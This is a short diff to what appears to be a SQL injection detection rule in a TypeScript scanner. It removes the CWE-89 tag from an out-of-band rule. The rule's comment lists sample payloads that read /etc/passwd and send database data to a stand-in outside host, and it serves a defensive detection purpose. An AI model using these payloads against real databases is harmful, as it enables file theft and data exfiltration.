@@ -22,7 +22,6 @@ import type { ValueRule } from '../rule.ts';
 /** `load_file('/etc/passwd')`, `utl_http.request('http://x/'||user)`, `xp_dirtree '\\x\a'`. */
 export const outOfBand: ValueRule = {
   id: 'sqli.out-of-band',
-  cwe: 'CWE-89',
   severity: 'critical',
   score: confidence.certain,
   message: 'makes the database read or write a file or reach another machine',
